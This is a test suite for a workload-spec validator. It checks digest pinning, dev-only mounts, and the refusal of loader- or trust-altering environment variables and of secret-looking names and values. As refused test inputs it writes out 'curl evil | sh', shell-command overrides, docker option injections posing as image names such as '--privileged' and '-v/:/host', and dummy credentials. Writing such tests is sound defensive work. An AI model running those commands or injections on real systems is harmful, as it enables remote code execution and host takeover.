import { create } from "@bufbuild/protobuf";
import { durationFromMs } from "@bufbuild/protobuf/wkt";
import { Environment, Runtime } from "@fabric/proto/fabric/common/v1/common_pb.js";
import { WorkloadSpecSchema, type WorkloadSpec } from "@fabric/proto/fabric/common/v1/workload_pb.js";
import type { MessageInitShape } from "@bufbuild/protobuf";
import type { Client } from "@connectrpc/connect";
import type { RegistryService } from "@fabric/proto/fabric/registry/v1/registry_pb.js";
import { FabricError } from "@fabric/platform";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  LOADER_NAMES,
  LOADER_PREFIXES,
  isLoaderVariable,
  looksLikeSecretName,
  secretValueKind,
  validateWorkloadSpec,
} from "../src/workload-rules.js";
import {
  REFUSED_NAMES as AGENT_REFUSED_NAMES,
  REFUSED_PREFIXES as AGENT_REFUSED_PREFIXES,
  loaderVariable as agentLoaderVariable,
} from "../../../agent/src/supervisor/workload-env.js";
import { Code, refusal } from "./support/calls.js";
import { startRegistry, type RegistryFixture } from "./support/registry-fixture.js";

const DIGEST = `sha256:${"0123456789abcdef".repeat(4)}`;

type SpecInit = MessageInitShape<typeof WorkloadSpecSchema>;

function spec(init: Partial<Record<keyof SpecInit, unknown>>): WorkloadSpec {
  const defaults = {
    id: "w1",
    clusterId: "c1",
    role: "rdp-worker",
    runtime: Runtime.CONTAINER,
    environment: Environment.DEV,
  };
  return create(WorkloadSpecSchema, { ...defaults, ...init } as SpecInit);
}

/** The InvalidArgument message the spec is refused with. */
function refusedWith(s: WorkloadSpec): string {
  try {
    validateWorkloadSpec(s);
  } catch (err) {
    expect(err).toBeInstanceOf(FabricError);
    expect((err as FabricError).kind).toBe("invalid-argument");
    return (err as Error).message;
  }
  throw new Error("the spec was accepted but should have been refused");
}

describe("environment guard rules", () => {
  it("lets dev mount, sync and reload, with or without an image", () => {
    expect(() =>
      validateWorkloadSpec(
        spec({
          mounts: [{ source: "/src", target: "/app" }],
          sync: { sourcePath: "/home/dev/app", targetPath: "/srv/app" },
          reload: true,
        }),
      ),
    ).not.toThrow();
    expect(() => validateWorkloadSpec(spec({ image: "app:latest" }))).not.toThrow();
  });

  it("needs an image in tst and pro", () => {
    expect(refusedWith(spec({ environment: Environment.TST }))).toMatch(
      /guard rule: tst workloads run an immutable image; set spec.image/,
    );
    expect(refusedWith(spec({ environment: Environment.PRO }))).toMatch(
      /guard rule: pro workloads run an immutable image/,
    );
  });

  it("needs pro images pinned by digest", () => {
    expect(refusedWith(spec({ environment: Environment.PRO, image: "registry.example/app:1.2" }))).toMatch(
      /guard rule: pro images must be pinned by digest/,
    );
    expect(
      refusedWith(spec({ environment: Environment.PRO, image: `app@sha256:${"A".repeat(64)}` })),
    ).toMatch(/pinned by digest/);
    expect(() =>
      validateWorkloadSpec(spec({ environment: Environment.PRO, image: `registry.example/app@${DIGEST}` })),
    ).not.toThrow();
    expect(() =>
      validateWorkloadSpec(spec({ environment: Environment.TST, image: "app:1.2" })),
    ).not.toThrow();
  });

  it("refuses mounts, sync and reload outside dev", () => {
    for (const environment of [Environment.TST, Environment.PRO]) {
      const base = { environment, image: `app@${DIGEST}` };
      expect(refusedWith(spec({ ...base, mounts: [{ source: "/src", target: "/app" }] }))).toMatch(
        /guard rule: mounts are only allowed in dev/,
      );
      expect(refusedWith(spec({ ...base, sync: { targetPath: "/srv" } }))).toMatch(
        /guard rule: sync is only allowed in dev/,
      );
      expect(refusedWith(spec({ ...base, reload: true }))).toMatch(
        /guard rule: reload is only allowed in dev/,
      );
    }
  });
});

describe("pro runs a digest-pinned image exactly as built", () => {
  const pinned = { runtime: Runtime.CONTAINER, environment: Environment.PRO, image: `app@${DIGEST}` };

  it.each([
    ["an entrypoint", { command: "/bin/sh" }, /leave spec.command \(the entrypoint\) empty/],
    [
      "the image's command",
      { args: ["-c", "curl evil | sh"] },
      /leave spec.args \(the image's command\) empty/,
    ],
    ["the working directory", { workingDir: "/tmp" }, /leave spec.working_dir empty/],
    [
      "all three",
      { command: "/bin/sh", args: ["-c", "id"], workingDir: "/" },
      /spec.command \(the entrypoint\), spec.args \(the image's command\), spec.working_dir/,
    ],
  ])("refuses a pro spec that overrides %s", (_what, override, message) => {
    const refused = refusedWith(spec({ ...pinned, ...override }));
    expect(refused).toMatch(/guard rule: a pro image runs exactly as built/);
    expect(refused).toMatch(message);
  });

  it("accepts a pinned pro image with configuration only; tst (not pinned) may still override", () => {
    expect(() => validateWorkloadSpec(spec({ ...pinned, env: { MODE: "fast" } }))).not.toThrow();
    expect(() =>
      validateWorkloadSpec(
        spec({ environment: Environment.TST, image: "app:1.2", command: "/app", args: ["--check"] }),
      ),
    ).not.toThrow();
  });

  it("runs native workloads only in dev: a host command is neither immutable nor pinned", () => {
    for (const environment of [Environment.TST, Environment.PRO]) {
      expect(refusedWith(spec({ runtime: Runtime.NATIVE, environment, command: "/usr/bin/app" }))).toMatch(
        /RUNTIME_NATIVE is only allowed in dev/,
      );
    }
    expect(() =>
      validateWorkloadSpec(spec({ runtime: Runtime.NATIVE, command: "/usr/bin/app" })),
    ).not.toThrow();
  });

  it("refuses an image reference docker would read as one of its options", () => {
    for (const image of ["--privileged", "-v/:/host", `--volume=/:/host@${DIGEST}`]) {
      expect(refusedWith(spec({ image }))).toMatch(/spec.image must be an image reference/);
    }
  });
});

describe("environment variables that change how code loads or what it trusts", () => {
  const refused = [
    ...["LD_PRELOAD", "ld_preload", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"],
    ...["GCONV_PATH", "GLIBC_TUNABLES", "LOCPATH", "PATH", "Path", "HOME"],
    ...["NODE_OPTIONS", "node_options", "NODE_PATH", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME"],
    ...["PYTHONWARNINGS", "PERL5OPT", "PERL5LIB", "RUBYOPT", "RUBYLIB", "JAVA_TOOL_OPTIONS"],
    ...["_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "CLASSPATH", "BASH_ENV", "ENV", "PROMPT_COMMAND", "PS4"],
    ...["IFS", "BASH_FUNC_ls", "GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0"],
    ...["SSL_CERT_FILE", "SSL_CERT_DIR", "NODE_EXTRA_CA_CERTS", "NODE_TLS_REJECT_UNAUTHORIZED"],
    ...["REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSLKEYLOGFILE", "OPENSSL_CONF"],
    ...["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "GRPC_PROXY"],
  ];
  const allowed = ["MODE", "GREETING", "NODE_ENV", "NO_PROXY", "no_proxy", "LANG", "TZ", "PORT"];

  it.each(refused)("refuses %s, naming it", (name) => {
    expect(refusedWith(spec({ env: { [name]: "/tmp/x" } }))).toBe(
      `spec.env: ${JSON.stringify(name)} changes how the process loads code or what it trusts; workloads may not set it`,
    );
  });

  it.each(allowed)("accepts %s", (name) => {
    expect(() => validateWorkloadSpec(spec({ env: { [name]: "1" } }))).not.toThrow();
  });

  it("refuses exactly what fabric-agent refuses before it starts a process", () => {
    expect([...LOADER_NAMES].sort()).toEqual([...AGENT_REFUSED_NAMES].sort());
    expect(LOADER_PREFIXES).toEqual(AGENT_REFUSED_PREFIXES);
    for (const name of [...refused, ...allowed, "LD_", "X_PROXY", "PROXY", "FTP_PROXY"]) {
      expect(isLoaderVariable(name), name).toBe(agentLoaderVariable(name) !== undefined);
    }
  });
});

describe("secrets in a spec distributed in clear", () => {
  const secretNames = [
    ...["DB_PASSWORD", "DB_PASS", "MYSQL_PWD", "dbPwd", "PASSPHRASE", "API_KEY", "apiKey", "STRIPE_KEY"],
    ...["SECRET_KEY", "ENCRYPTION_KEY", "SSH_KEYS", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID"],
    ...["AWS_SESSION_TOKEN", "GITHUB_TOKEN", "NPM_AUTHTOKEN", "GOOGLE_APPLICATION_CREDENTIALS"],
    ...["DOCKER_CREDS", "AUTH", "BASIC_AUTH", "HTTP_AUTHORIZATION", "BEARER", "SESSION_COOKIE"],
    ...["COOKIE", "sessionId", "SESSION", "SENTRY_DSN", "DSN", "CONN_STR", "DB_CONNECTION_STRING"],
    ...["SIGNING_KEY", "JWT_SIGNING", "PASSWORD_SALT", "SALT", "PRIVATE_KEY", "TLS_PRIVATE", "JWT"],
    ...["SLACK_WEBHOOK", "DISCORD_WEBHOOK_URL", "ADMIN_PIN", "CLIENT_SECRET", "clientSecret"],
  ];
  const harmlessNames = [
    ...["MODE", "GREETING", "PORT", "LOG_LEVEL", "TOKENIZERS_PARALLELISM", "GIT_AUTHOR_NAME"],
    ...["AUTHOR", "KEYBOARD_LAYOUT", "PWD", "DATABASE_URL", "COMPASS_URL", "BYPASS_CACHE", "PASSENGER_ENV"],
  ];
  const key = (prefix: string, n: number) => prefix + "a1B2c3D4e5".repeat(10).slice(0, n);
  const secretValues: [string, RegExp][] = [
    ["-----BEGIN PRIVATE KEY-----\nMIGH...\n-----END PRIVATE KEY-----", /a PEM private key/],
    ["-----BEGIN RSA PRIVATE KEY-----", /a PEM private key/],
    ["-----BEGIN OPENSSH PRIVATE KEY-----", /a PEM private key/],
    ["-----BEGIN ENCRYPTED PRIVATE KEY-----", /a PEM private key/],
    [
      Buffer.from("-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE\n-----END EC PRIVATE KEY-----\n").toString(
        "base64",
      ),
      /a PEM private key, base64-encoded/,
    ],
    ["postgres://app:hunter2@db:5432/app", /a URL with a password/],
    ["redis://:s3cret@cache:6379/0", /a URL with a password/],
    ["https://deploy:x@git.example/org/repo.git", /a URL with a password/],
    ["Server=db;User Id=app;Password=hunter2;", /a connection string with a password/],
    ["DefaultEndpointsProtocol=https;AccountName=a;AccountKey=abc==", /a connection string/],
    ["Bearer abcdefghijklmnop1234", /an Authorization header value/],
    ["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl", /a JWT/],
    [key("ghp_", 36), /a GitHub token/],
    [key("github_pat_", 60), /a GitHub token/],
    [key("glpat-", 20), /a GitLab token/],
    ["xoxb-1234567890-abcdefghij", /a Slack token/],
    ["https://hooks.slack.com/services/T000/B000/XXXXXXXX", /a webhook URL/],
    ["AKIAIOSFODNN7EXAMPLE", /an AWS access key/],
    [key("sk_live_", 24), /a Stripe key/],
    [key("sk-proj-", 40), /an API secret key/],
    [key("AIza", 35), /a Google API key/],
    [key("npm_", 36), /an npm token/],
    [`SG.${key("", 22)}.${key("", 43)}`, /a SendGrid key/],
  ];
  const harmlessValues = [
    ...["edge", "postgres://db:5432/app", "postgres://app@db:5432/app", "ssh://git@github.com/o/r.git"],
    ...["http://127.0.0.1:8080/path@v2", "-----BEGIN CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----"],
    ...["sk-short", key("task-", 44), "Basic", "AKIA", "eyJhbGciOiJIUzI1NiJ9"],
    Buffer.from("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n").toString("base64"),
  ];

  it.each(secretNames)("refuses the name %s", (name) => {
    expect(looksLikeSecretName(name)).toBe(true);
    expect(refusedWith(spec({ env: { [name]: "x" } }))).toBe(
      `spec.env: ${JSON.stringify(name)} looks like a secret; workload specs are distributed in clear, so never put credentials in them`,
    );
  });

  it.each(harmlessNames)("accepts the name %s", (name) => {
    expect(looksLikeSecretName(name)).toBe(false);
    expect(() => validateWorkloadSpec(spec({ env: { [name]: "x" } }))).not.toThrow();
  });

  it.each(secretValues)("refuses the value %s wherever it is, without echoing it", (value, kind) => {
    expect(secretValueKind(value)).toMatch(kind);
    const at = [
      refusedWith(spec({ env: { MODE: value } })),
      refusedWith(spec({ args: ["--flag", value] })),
      refusedWith(spec({ runtime: Runtime.NATIVE, command: value })),
      refusedWith(spec({ labels: { note: value.split("\n")[0]!.slice(0, 255) } })),
      refusedWith(spec({ healthCheck: { probe: { case: "exec", value: { command: ["/check", value] } } } })),
    ];
    expect(at.map((m) => m.split(" looks like")[0])).toEqual([
      'spec.env: the value of "MODE"',
      "spec.args[1]",
      "spec.command",
      'spec.labels: "note"',
      "spec.health_check.exec.command[1]",
    ]);
    for (const message of at) {
      expect(message).toMatch(kind);
      expect(message).not.toContain(value.slice(0, 24));
    }
  });

  it.each(harmlessValues)("accepts the value %s", (value) => {
    expect(secretValueKind(value)).toBeUndefined();
    expect(() => validateWorkloadSpec(spec({ env: { MODE: value }, args: [value] }))).not.toThrow();
  });
});

describe("well-formed specs", () => {
  it("names the field at fault", () => {
    expect(refusedWith(spec({ runtime: Runtime.UNSPECIFIED }))).toMatch(/spec.runtime is required/);
    expect(refusedWith(spec({ environment: Environment.UNSPECIFIED }))).toMatch(
      /spec.environment is required/,
    );
    expect(refusedWith(spec({ runtime: Runtime.NATIVE }))).toMatch(
      /spec.command is required for RUNTIME_NATIVE/,
    );
    expect(refusedWith(spec({ id: "Bad_Id" }))).toMatch(/spec.id must be/);
    expect(refusedWith(spec({ env: { DB_PASSWORD: "x" } }))).toMatch(/looks like a secret/);
    expect(refusedWith(spec({ env: { "1X": "x" } }))).toMatch(/not a valid variable name/);
    expect(refusedWith(spec({ healthCheck: {} }))).toMatch(/exactly one probe/);
    expect(
      refusedWith(
        spec({ healthCheck: { probe: { case: "tcp", value: { port: 80 } }, interval: durationFromMs(500) } }),
      ),
    ).toMatch(/interval must be at least 1 s/);
    expect(
      refusedWith(
        spec({
          healthCheck: {
            probe: { case: "http", value: { port: 80 } },
            interval: durationFromMs(2_000),
            timeout: durationFromMs(2_000),
          },
        }),
      ),
    ).toMatch(/timeout must be positive and shorter/);
    expect(refusedWith(spec({ stopGracePeriod: durationFromMs(10 * 60_000) }))).toMatch(/stop_grace_period/);
    expect(refusedWith(spec({ nodeIds: ["n-1", "n-1"] }))).toMatch(/twice/);
  });
});

describe("PutWorkload enforces the rules and changes nothing when refusing", () => {
  let f: RegistryFixture;
  let admin: Client<typeof RegistryService>;
  beforeAll(async () => {
    f = await startRegistry();
    admin = f.client(f.admin);
    await admin.createCluster({ clusterId: "c1", name: "One" });
  });
  afterAll(async () => {
    await f?.close();
  });

  it("refuses a tst workload with a mount and a pro workload without a digest", async () => {
    const auditBefore = (await admin.verifyAudit({})).rowsChecked;
    const tst = await refusal(
      admin.putWorkload({
        spec: spec({
          environment: Environment.TST,
          image: "app:1",
          mounts: [{ source: "/src", target: "/app" }],
        }),
      }),
    );
    expect(tst.code).toBe(Code.InvalidArgument);
    expect(tst.rawMessage).toMatch(/guard rule: mounts are only allowed in dev/);
    const pro = await refusal(
      admin.putWorkload({ spec: spec({ environment: Environment.PRO, image: "app:1" }) }),
    );
    expect(pro.code).toBe(Code.InvalidArgument);
    expect(pro.rawMessage).toMatch(/pinned by digest/);
    expect((await admin.listWorkloads({})).workloads).toEqual([]);
    const rows = await f.pool.query("SELECT count(*)::int AS n FROM workloads");
    expect(rows.rows[0].n).toBe(0);
    // the refusals themselves are audited as failed attempts
    const failed = await admin.listAudit({ actionPrefix: "workload.put" });
    expect(failed.events.map((e) => e.details.error)).toEqual(["invalid-argument", "invalid-argument"]);
    expect((await admin.verifyAudit({})).rowsChecked).toBe(auditBefore + 2n);
    const ok = await admin.putWorkload({
      spec: spec({ environment: Environment.PRO, image: `app@${DIGEST}` }),
    });
    expect(ok.created).toBe(true);
  });
});
